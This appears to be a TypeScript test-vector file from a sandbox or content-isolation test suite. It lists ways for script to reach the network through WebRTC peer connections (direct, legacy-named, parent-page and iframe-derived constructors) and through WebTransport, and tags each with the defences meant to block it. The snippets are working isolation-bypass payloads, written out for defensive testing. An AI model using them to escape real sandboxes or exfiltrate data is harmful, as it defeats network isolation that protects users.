import type { Defence, Kind, Vector } from '../vector.ts';

/** A vector that sends UDP or TCP packets over WebRTC, with a constructor from somewhere. */
const call = (name: string, from: string, stoppedBy: readonly Defence[]): Vector => ({
  name,
  code: `${from}
    const peer = new Peer({ iceServers: [{ urls: 'stun:' + udp }, { urls: 'turn:' + new URL(to).host + '?transport=tcp', username: 'x', credential: 'x' }] });
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await wait(2000);`,
  stoppedBy,
});

export const calls: Kind = {
  title: 'WebRTC and WebTransport',
  vectors: [
    call('calls over WebRTC', `const Peer = RTCPeerConnection;`, ['globals', 'allowlist']),
    call('calls over WebRTC by its old name', `const Peer = webkitRTCPeerConnection;`, [
      'globals',
      'allowlist',
    ]),
    call('calls over WebRTC of the page', `const Peer = parent.RTCPeerConnection;`, [
      'attribute',
      'globals',
      'allowlist',
    ]),
    call(
      'calls over WebRTC of an empty frame',
      `const Peer = add('<iframe></iframe>').firstChild.contentWindow.RTCPeerConnection;`,
      ['attribute', 'globals', 'allowlist', 'policy'],
    ),
    call(
      'calls over WebRTC of a frame with a document',
      `add('<iframe srcdoc="x"></iframe>'); await wait(500); const Peer = frames[0].RTCPeerConnection;`,
      ['attribute', 'globals', 'allowlist', 'policy'],
    ),
    {
      name: 'calls over WebRTC in the script of a frame',
      code: `add('<iframe srcdoc="' + ('<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + udp + '" }, { urls: "turn:' + new URL(to).host + '?transport=tcp", username: "x", credential: "x" }] }); peer.createDataChannel("x"); peer.setLocalDescription()<' + '/script>').replaceAll('"', '&quot;') + '"></iframe>'); await wait(2500);`,
      stoppedBy: ['attribute', 'globals', 'allowlist', 'policy'],
    },
    {
      name: 'opens a WebTransport',
      code: `const transport = new WebTransport('https://' + udp + '/'); await Promise.race([transport.ready, wait(2000)]);`,
      stoppedBy: ['policy', 'allowlist'],
    },
  ],
};
